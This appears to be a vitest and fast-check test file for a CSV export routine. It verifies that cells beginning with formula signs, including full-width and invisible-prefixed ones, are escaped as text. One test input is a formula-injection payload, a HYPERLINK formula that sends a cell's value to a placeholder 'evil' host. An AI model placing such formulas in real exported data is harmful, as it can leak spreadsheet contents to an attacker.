import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine, csvRemark } from './csv.ts'

/** A strict reader of RFC 4180 with every field quoted. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let at = 0
  while (at < text.length) {
    const row: string[] = []
    for (;;) {
      if (text[at] !== '"') throw new Error(`No quote at ${at}`)
      let value = ''
      for (at += 1; ; at += 1) {
        if (at >= text.length) throw new Error('Unfinished field')
        if (text[at] !== '"') value += text[at]
        else if (text[at + 1] === '"') value += text[++at]
        else break
      }
      row.push(value)
      at += 1
      if (text[at] === ',') at += 1
      else if (text.startsWith('\r\n', at)) {
        at += 2
        break
      } else throw new Error(`Neither comma nor line end at ${at}`)
    }
    rows.push(row)
  }
  return rows
}

test.each([
  '=HYPERLINK("http://evil?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1',
  '＋1',
  '－1',
  '＠A',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF +1',
  ' \u2060\u00AD-1',
  '\u3000＠A',
])('%j is written as text', (cell) => {
  expect(parse(csvLine([cell, 'next']))).toEqual([[`'${cell}`, 'next']])
})

test.each(['a,b\r\nc', 'say "hi"', ';=1', '00093-0050-01', ''])('%j comes back as it was', (cell) => {
  expect(parse(csvLine([cell, 'next']))).toEqual([[cell, 'next']])
})

test('real numbers stay numbers, also negative ones', () => {
  expect(parse(csvLine([-5.25, 0, null]))).toEqual([['-5.25', '0', '']])
})

test('whatever the cells are, the reader finds as many and no formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }), (cells) => {
      const [row, ...rest] = parse(csvLine(cells))
      expect(rest).toEqual([])
      expect(row).toHaveLength(cells.length)
      for (const [index, cell] of row!.entries()) {
        expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
        expect([cells[index], `'${cells[index]}`]).toContain(cell)
      }
    }),
  )
})

test('whatever stands unseen before a sign, the cell is text', () => {
  const before = fc.array(
    fc.constantFrom(' ', '\u00A0', '\u2003', '\u3000', '\u200B', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u0001'),
  )
  fc.assert(
    fc.property(before, fc.constantFrom('=', '+', '-', '@', '＝', '－'), fc.string(), (gaps, sign, rest) => {
      const cell = `${gaps.join('')}${sign}${rest}`
      expect(parse(csvLine([cell]))).toEqual([[`'${cell}`]])
    }),
  )
})

test('words after spaces, and what only holds a sign, come back as they were', () => {
  for (const cell of [' a', '\u00A0a=b', 'a-b', ' 5 mg', '12-31', '\u200Ba+b'])
    expect(parse(csvLine([cell]))).toEqual([[cell]])
})

test('a remark line has as many fields as the records', () => {
  expect(parse(csvRemark('The first 10,000', 4))).toEqual([['The first 10,000', '', '', '']])
})
